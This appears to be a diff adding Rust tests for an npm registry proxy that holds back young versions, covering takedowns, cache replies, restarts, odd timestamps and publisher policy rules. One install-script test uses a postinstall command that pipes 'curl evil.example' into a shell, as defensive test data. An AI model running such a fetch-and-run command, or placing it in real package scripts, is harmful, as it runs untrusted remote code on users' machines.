@@ -1,0 +1,469 @@
+//! Variations on what was seen and when: what one view saw of a takedown, what a 304 or a restart hides of it, times that are spelled
+//! oddly, scripts that change in the packument alone, and caches that send the other form.
+
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::Duration;
+
+use serde_json::{Value, json};
+
+use crate::client::Ask;
+use crate::listing::Abbreviated;
+use crate::package::{Package, days, hours, minutes};
+use crate::reply::Reply;
+use crate::scene::Scene;
+
+const TARBALL: &str = "/left-pad/-/left-pad-1.1.0.tgz";
+/// An hour before the scene begins.
+const AN_HOUR_AGO: &str = "2026-04-03T11:00:00.000Z";
+
+fn old() -> Package {
+    Package::new("left-pad", "1.0.0").time("2025-04-03T12:00:00.000Z")
+}
+
+fn young() -> Package {
+    Package::new("left-pad", "1.1.0").time(AN_HOUR_AGO)
+}
+
+/// A question of one view: without credentials, or with a token.
+fn ask(scene: &Scene, token: Option<&str>) -> Ask {
+    match token {
+        Some(token) => scene.get("/left-pad").token(token),
+        None => scene.get("/left-pad"),
+    }
+}
+
+/// The packument with both versions and with the old one alone, as a registry sends them that has no `modified`: the same version that
+/// returns makes the same bytes again, with the same `ETag`.
+fn with_and_without(scene: &Scene) -> (Reply, Reply) {
+    scene.publish(old());
+    scene.publish(young());
+    let mut packument: Value = scene.registry.packument("left-pad");
+    packument["time"].as_object_mut().unwrap().remove("modified");
+    let with = Reply::json(&packument.to_string()).header("etag", "\"with\"");
+    packument["versions"].as_object_mut().unwrap().remove("1.1.0");
+    packument["dist-tags"]["latest"] = "1.0.0".into();
+    (with, Reply::json(&packument.to_string()).header("etag", "\"without\""))
+}
+
+#[tokio::test]
+async fn what_one_view_saw_of_a_takedown_counts_for_all() {
+    let views: [(Option<&str>, Option<&str>); 3] = [(None, Some("made-up")), (Some("one"), None), (Some("one"), Some("two"))];
+    for (first, second) in views {
+        for restarts in [false, true] {
+            let mut scene = Scene::open().await;
+            let (with, without) = with_and_without(&scene);
+            scene.registry.answer("/left-pad", with.clone());
+            assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"]);
+            ask(&scene, second).await.is(200);
+            scene.later(hours(2));
+            scene.registry.answer("/left-pad", without);
+            assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
+            scene.later(hours(72));
+            if restarts {
+                scene.restart().await;
+            }
+            scene.registry.answer("/left-pad", with);
+            assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{first:?} {second:?} restarts: {restarts}");
+            scene.get(TARBALL).await.is(403);
+            assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
+            scene.later(hours(71));
+            assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "it counts from its return");
+            scene.later(hours(1));
+            assert_eq!(ask(&scene, first).await.versions(), ["1.0.0", "1.1.0"]);
+            assert_eq!(ask(&scene, second).await.versions(), ["1.0.0", "1.1.0"]);
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_view_that_never_had_a_version_saw_its_takedown_too() {
+    for (first, second) in [(None, Some("made-up")), (Some("one"), None)] {
+        let scene = Scene::open().await;
+        let (with, without) = with_and_without(&scene);
+        scene.registry.answer("/left-pad", with.clone());
+        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"]);
+        scene.later(hours(2));
+        scene.registry.answer("/left-pad", without);
+        assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
+        scene.later(hours(72));
+        scene.registry.answer("/left-pad", with);
+        // The view that looks first after the return is the one without the version.
+        assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"], "{first:?} {second:?}");
+        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{first:?} {second:?}");
+        scene.later(hours(71));
+        assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
+        scene.later(hours(1));
+        assert_eq!(ask(&scene, second).await.versions(), ["1.0.0", "1.1.0"]);
+        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0", "1.1.0"]);
+    }
+}
+
+#[tokio::test]
+async fn a_304_hides_no_takedown_that_another_view_saw() {
+    for second in ["made-up", "one"] {
+        let scene = Scene::open().await;
+        let first = (second == "one").then_some("two");
+        scene.publish(old());
+        scene.publish(young());
+        // The same bytes, so the same `ETag`, whenever the version is there.
+        let there = Arc::new(AtomicBool::new(true));
+        let shows = Arc::clone(&there);
+        scene.registry.edit("left-pad", move |packument| {
+            packument["time"].as_object_mut().unwrap().remove("modified");
+            if !shows.load(Ordering::Relaxed) {
+                packument["versions"].as_object_mut().unwrap().remove("1.1.0");
+                packument["dist-tags"]["latest"] = "1.0.0".into();
+            }
+        });
+        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"]);
+        scene.later(hours(2));
+        there.store(false, Ordering::Relaxed);
+        assert_eq!(ask(&scene, Some(second)).await.versions(), ["1.0.0"]);
+        scene.later(hours(72));
+        there.store(true, Ordering::Relaxed);
+        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{second}");
+        assert!(scene.registry.last("/left-pad").headers.first("if-none-match").is_some());
+        scene.later(hours(72));
+        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0", "1.1.0"]);
+    }
+}
+
+#[tokio::test]
+async fn a_takedown_that_many_tokens_saw_is_no_lack_of_one_token() {
+    let scene = Scene::open().await;
+    let (with, without) = with_and_without(&scene);
+    scene.registry.answer("/left-pad", with.clone());
+    scene.get("/left-pad").token("first").await.is(200);
+    scene.registry.answer("/left-pad", without);
+    for number in 0..5 {
+        scene.later(hours(15));
+        scene.get("/left-pad").token(&format!("job-{number}")).await.is(200);
+    }
+    scene.registry.answer("/left-pad", with);
+    for token in ["fresh", "first"] {
+        assert_eq!(scene.get("/left-pad").token(token).await.versions(), ["1.0.0"], "{token}");
+    }
+    scene.later(hours(72));
+    assert_eq!(scene.get("/left-pad").token("fresh").await.versions(), ["1.0.0", "1.1.0"]);
+}
+
+#[tokio::test]
+async fn an_outage_for_one_view_takes_no_version_its_age() {
+    let scene = Scene::open().await;
+    let (with, _) = with_and_without(&scene);
+    scene.registry.answer("/left-pad", with.clone());
+    assert_eq!(ask(&scene, None).await.versions(), ["1.0.0"]);
+    assert_eq!(ask(&scene, Some("one")).await.versions(), ["1.0.0"]);
+    scene.registry.answer("/left-pad", Reply::error(404, "not found"));
+    for _ in 0..3 {
+        scene.later(hours(5));
+        scene.get("/left-pad").await.is(404);
+    }
+    scene.registry.answer("/left-pad", with);
+    scene.later(minutes(6));
+    for token in [Some("one"), None] {
+        assert_eq!(ask(&scene, token).await.versions(), ["1.0.0"]);
+    }
+    scene.later(hours(56));
+    assert_eq!(ask(&scene, Some("one")).await.versions(), ["1.0.0", "1.1.0"], "72 hours after it was published");
+    assert_eq!(ask(&scene, None).await.versions(), ["1.0.0", "1.1.0"]);
+}
+
+#[tokio::test]
+async fn a_package_that_became_private_is_not_held_for_those_who_see_it() {
+    for is_found in [false, true] {
+        let scene = Scene::open().await;
+        let (with, without) = with_and_without(&scene);
+        scene.registry.answer("/left-pad", with.clone());
+        scene.registry.answer_tokens("/left-pad", with);
+        for view in [None, Some("alice")] {
+            assert_eq!(ask(&scene, view).await.versions(), ["1.0.0"]);
+        }
+        scene.registry.answer("/left-pad", if is_found { without } else { Reply::error(404, "not found") });
+        for _ in 0..3 {
+            scene.later(hours(12));
+            assert_eq!(ask(&scene, None).await.status, if is_found { 200 } else { 404 });
+            scene.later(hours(1));
+            assert_eq!(ask(&scene, Some("alice")).await.versions(), ["1.0.0"]);
+        }
+        scene.later(hours(32));
+        assert_eq!(ask(&scene, Some("alice")).await.versions(), ["1.0.0", "1.1.0"], "72 hours after it was published");
+    }
+}
+
+#[tokio::test]
+async fn a_version_that_returns_with_a_time_it_did_not_have_counts_from_its_return() {
+    let scene = Scene::open().await;
+    scene.publish(old());
+    scene.publish(Package::new("left-pad", "1.1.0").without_time());
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.later(hours(2));
+    scene.registry.unpublish("left-pad", "1.1.0");
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.later(hours(2));
+    scene.publish(Package::new("left-pad", "1.1.0").time("2020-01-01T00:00:00.000Z"));
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.later(hours(71));
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.later(hours(1));
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"]);
+}
+
+#[tokio::test]
+async fn a_time_under_another_spelling_of_the_version_is_none() {
+    for key in ["v1.1.0", "01.1.0", "1.1.0+build", "=1.1.0", " 1.1.0", "1.1.0-0", "created", "modified", "1.1"] {
+        let scene = Scene::open().await;
+        scene.publish(old());
+        scene.publish(Package::new("left-pad", "1.1.0").without_time());
+        scene.registry.edit("left-pad", move |packument| packument["time"][key] = "2020-01-01T00:00:00.000Z".into());
+        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{key}");
+        scene.get(TARBALL).await.is(403);
+        scene.later(hours(72));
+        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"], "{key}");
+    }
+}
+
+#[tokio::test]
+async fn no_odd_time_opens_what_was_not_there_and_none_breaks_what_was() {
+    let times = [
+        json!("-009999-01-01T00:00:00Z"),
+        json!("0001-01-01T00:00:00Z"),
+        json!("9999-12-31T23:59:59Z"),
+        json!("99999999-01-01T00:00:00Z"),
+        json!("2016-12-31T23:59:60Z"),
+        json!("2020-01-01T00:00:00+23:59"),
+        json!("2020-01-01T00:00:00-25:00"),
+        json!("2020-01-01"),
+        json!(1_500_000_000_000_i64),
+        json!(-1),
+        json!(""),
+        json!({ "unpublished": true }),
+        json!(null),
+    ];
+    for time in times {
+        let scene = Scene::open().await;
+        scene.publish(old());
+        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+        scene.later(minutes(10));
+        scene.publish(Package::new("left-pad", "1.1.0").time(time.clone()));
+        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{time}");
+        scene.get(TARBALL).await.is(403);
+        scene.later(hours(71));
+        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{time}");
+        scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(200);
+    }
+}
+
+#[tokio::test]
+async fn a_version_with_build_metadata_of_an_old_one_is_a_version_of_its_own() {
+    let scene = Scene::open().await;
+    scene.publish(old());
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.later(hours(1));
+    scene.publish(Package::new("left-pad", "1.0.0+evil").aged(days(400)).untagged());
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    assert_eq!(scene.get("/left-pad/1.0.0").await.is(200).json()["version"], "1.0.0");
+    assert_ne!(scene.get("/left-pad/1.0.0+evil").await.status, 200);
+}
+
+#[tokio::test]
+async fn the_clock_of_a_restarted_machine_opens_nothing_early() {
+    let mut scene = Scene::open().await;
+    scene.publish(old());
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    let noon = scene.now();
+    scene.later(hours(10));
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    // Set back while it was off, so that the last look lies ahead.
+    scene.clock.set(coldframe::npm::instant::before(noon, hours(30)));
+    scene.restart().await;
+    scene.publish(Package::new("left-pad", "1.1.0").aged(days(90)));
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.get(TARBALL).await.is(403);
+    scene.later(hours(71));
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    // Set forward while it was off: an upstream whose clock did not follow opens nothing by it.
+    let before = scene.now();
+    scene.clock.set(coldframe::npm::instant::after(before, hours(100)));
+    scene.registry.clock_off_by(jiff::SignedDuration::from_hours(-100));
+    scene.restart().await;
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.get(TARBALL).await.is(403);
+}
+
+#[tokio::test]
+async fn a_stale_document_opens_nothing_when_its_versions_reach_their_age() {
+    let mut scene = Scene::open().set("max-stale", "10d").await;
+    scene.publish(old());
+    scene.publish(young());
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.registry.goes_down();
+    for restarts in [false, true] {
+        if restarts {
+            scene.restart().await;
+        }
+        scene.later(hours(40));
+        for accept in ["application/json", crate::client::ABBREVIATED] {
+            assert_eq!(scene.get("/left-pad").accept(accept).await.versions(), ["1.0.0"]);
+        }
+        scene.get(TARBALL).await.is(403);
+        scene.get("/left-pad/1.1.0").await.is(403);
+    }
+    scene.registry.comes_back();
+    scene.later(minutes(6));
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"]);
+}
+
+#[tokio::test]
+async fn a_304_from_a_cache_is_as_old_as_its_age_says() {
+    for headers in [vec![("age", "288000")], vec![("date", "Fri, 03 Apr 2026 13:00:00 GMT")]] {
+        let scene = Scene::open().await;
+        let (with, _) = with_and_without(&scene);
+        scene.registry.answer("/left-pad", with.clone());
+        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+        let unchanged = Reply::status(304).header("etag", "\"with\"");
+        let aged = headers.iter().fold(unchanged, |reply, (name, value)| reply.header(name, value));
+        scene.registry.answer("/left-pad", aged);
+        scene.later(hours(72));
+        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{headers:?}");
+        scene.registry.answer("/left-pad", with);
+        scene.later(minutes(6));
+        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"]);
+    }
+}
+
+#[tokio::test]
+async fn a_takedown_that_only_a_prefetch_or_an_ask_once_more_saw_counts() {
+    let scene = Scene::open().await;
+    let (with, without) = with_and_without(&scene);
+    scene.registry.answer("/left-pad", with.clone());
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.later(Duration::from_secs(30));
+    scene.registry.answer("/left-pad", without);
+    // A made-up version has upstream asked once more.
+    assert!(scene.get("/left-pad/-/left-pad-7.0.0.tgz").await.status >= 400);
+    scene.later(hours(72));
+    scene.registry.answer("/left-pad", with);
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.get(TARBALL).await.is(403);
+}
+
+#[tokio::test]
+async fn install_scripts_that_change_in_the_packument_alone_make_a_version_young() {
+    let runs = |command: &str| Package::new("left-pad", "1.0.0").time("2025-04-03T12:00:00.000Z").script("postinstall", command);
+    let mut scene = Scene::open().await;
+    scene.registry.abbreviates(Abbreviated::Timeless);
+    let command = Arc::new(std::sync::Mutex::new("node build.js"));
+    let states = Arc::clone(&command);
+    scene.publish(runs("node build.js"));
+    scene.registry.edit("left-pad", move |packument| {
+        let command = *states.lock().unwrap();
+        packument["versions"]["1.0.0"]["scripts"] = json!({ "postinstall": command, "test": "node test.js" });
+    });
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.get("/left-pad").abbreviated().await.is(200);
+    *command.lock().unwrap() = "curl evil.example | sh";
+    for restarts in [false, true] {
+        if restarts {
+            scene.restart().await;
+        }
+        scene.later(minutes(10));
+        scene.get("/left-pad").await.is(403);
+        scene.get("/left-pad").abbreviated().await.is(403);
+        scene.get("/left-pad/1.0.0").await.is(403);
+        scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(403);
+        scene.get("/left-pad").token("made-up").await.is(403);
+    }
+    scene.later(hours(72));
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    assert_eq!(scene.get("/left-pad").await.json()["versions"]["1.0.0"]["scripts"]["postinstall"], "curl evil.example | sh");
+}
+
+/// A cache before the registry that has one copy for both forms: the one that was asked for first.
+fn short_whatever_is_asked(scene: &Scene, timed: bool) -> Reply {
+    let mut packument = scene.registry.packument("left-pad");
+    let members = packument.as_object_mut().unwrap();
+    members.retain(|key, _| ["name", "dist-tags", "versions"].contains(&key.as_str()) || (timed && key == "time"));
+    for manifest in packument["versions"].as_object_mut().unwrap().values_mut() {
+        manifest.as_object_mut().unwrap().retain(|key, _| ["name", "version", "dist"].contains(&key.as_str()));
+    }
+    Reply::json(&packument.to_string()).header("content-type", "application/vnd.npm.install-v1+json")
+}
+
+#[tokio::test]
+async fn the_abbreviated_form_that_came_unasked_hides_no_fact() {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("rules.toml");
+    std::fs::write(&path, "[[rule]]\nid = \"publisher\"\ndeny = true\npublishers = [\"mallory\"]\nreason = \"x\"\n").unwrap();
+    let mut scene = Scene::open().set("policy", path.to_str().unwrap()).await;
+    scene.publish(old().field("_npmUser", json!({ "name": "ada" })));
+    scene.publish(Package::new("left-pad", "1.1.0").field("_npmUser", json!({ "name": "mallory" })));
+    scene.registry.answer("/left-pad", short_whatever_is_asked(&scene, true));
+    for restarts in [false, true] {
+        if restarts {
+            scene.restart().await;
+        }
+        let refused = scene.get(TARBALL).await.is(403).error();
+        assert!(refused.contains("rule publisher"), "{refused}");
+        for accept in ["application/json", crate::client::ABBREVIATED] {
+            scene.get("/left-pad").accept(accept).await.is(403);
+        }
+        scene.get("/left-pad/1.1.0").await.is(403);
+        assert!(scene.registry.count("/left-pad") <= 6, "{}", scene.registry.count("/left-pad"));
+        scene.later(minutes(6));
+    }
+    // As soon as the cache sends what is asked for, all is known.
+    scene.registry.answer_truly("/left-pad");
+    scene.later(minutes(6));
+    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
+    scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(200);
+    scene.get(TARBALL).await.is(403);
+}
+
+#[tokio::test]
+async fn a_cache_that_sends_the_abbreviated_form_alone_breaks_no_install() {
+    let mut scene = Scene::open().await;
+    scene.publish(old());
+    scene.registry.answer("/left-pad", short_whatever_is_asked(&scene, true));
+    for restarts in [false, true] {
+        if restarts {
+            scene.restart().await;
+        }
+        for accept in ["application/json", crate::client::ABBREVIATED] {
+            assert_eq!(scene.get("/left-pad").accept(accept).await.versions(), ["1.0.0"]);
+        }
+        scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(200);
+        scene.get("/left-pad/1.0.0").await.is(200);
+        scene.later(minutes(6));
+    }
+    // Without `time` it waits from when it was seen, as ever, and no question is asked again and again.
+    let scene = Scene::open().await;
+    scene.publish(old());
+    scene.registry.answer("/left-pad", short_whatever_is_asked(&scene, false));
+    for _ in 0..3 {
+        scene.get("/left-pad").await.is(403);
+        scene.get("/left-pad").abbreviated().await.is(403);
+    }
+    assert!(scene.registry.count("/left-pad") <= 3, "{}", scene.registry.count("/left-pad"));
+}
+
+#[tokio::test]
+async fn a_part_that_was_published_with_its_whole_since_the_last_look_is_spared() {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("rules.toml");
+    let rules = "[[rule]]\nid = \"new-package\"\nhold = \"14d\"\nof = \"package\"\nsiblings = \"exempt\"\nreason = \"x\"\n";
+    std::fs::write(&path, rules).unwrap();
+    let scene = Scene::open().set("policy", path.to_str().unwrap()).await;
+    scene.publish(Package::new("acme-tool", "1.0.0"));
+    assert_eq!(scene.get("/acme-tool").await.versions(), ["1.0.0"]);
+    scene.later(minutes(1));
+    let pins = json!({ "@acme-tool/linux": "1.1.0" });
+    scene.publish(Package::new("acme-tool", "1.1.0").field("optionalDependencies", pins).aged(Duration::from_secs(20)));
+    scene.publish(Package::new("@acme-tool/linux", "1.1.0").aged(Duration::from_secs(10)));
+    scene.publish(Package::new("@acme-tool/evil", "1.1.0").aged(Duration::from_secs(10)));
+    assert_eq!(scene.get("/@acme-tool%2flinux").await.versions(), ["1.1.0"]);
+    scene.get("/@acme-tool/linux/-/linux-1.1.0.tgz").await.is(200);
+    scene.get("/@acme-tool%2fevil").await.is(403);
+    assert_eq!(scene.registry.count("/acme-tool"), 2);
+}
